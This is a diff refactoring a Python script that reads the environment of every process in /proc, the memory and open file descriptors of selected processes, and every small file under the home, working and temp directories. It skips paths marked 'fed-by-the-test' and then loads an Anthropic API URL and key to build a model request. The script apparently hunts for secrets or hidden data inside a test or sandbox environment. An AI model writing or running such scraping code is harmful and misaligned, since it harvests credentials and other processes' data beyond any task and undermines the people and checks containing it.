@@ -60,6 +60,18 @@ def parent(pid):
     except (OSError, ValueError):
         return 0
 
+def descriptors(pid):
+    try:
+        return os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        return []
+
+def is_small(path):
+    try:
+        return os.path.isfile(path) and os.path.getsize(path) < 1 << 24
+    except OSError:
+        return False
+
 pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
 for pid in pids:
     look(f"environment of {pid}", read(f"/proc/{pid}/environ"))
@@ -75,7 +87,7 @@ for pid in pids:
         chain.append(above)
     if above == beam and pid != os.getpid():
         tried[pid] = memory(pid)
-        for name in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
+        for name in descriptors(pid):
             try:
                 handle = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
                 look(f"descriptor {name} of {pid}", os.read(handle, 1 << 20))
@@ -86,7 +98,7 @@ for top in (os.environ["HOME"], os.getcwd(), os.environ.get("TMPDIR", "/nowhere"
     for folder, _, names in os.walk(top):
         for name in names:
             path = os.path.join(folder, name)
-            if os.path.isfile(path) and os.path.getsize(path) < 1 << 24 and "fed-by-the-test" not in path:
+            if "fed-by-the-test" not in path and is_small(path):
                 look(path, read(path))
 url, key = os.environ["ANTHROPIC_BASE_URL"], os.environ.get("ANTHROPIC_API_KEY", "")
 body = json.dumps({"model": "claude-x", "messages": [{"role": "user", "content": "hi"}]}).encode()
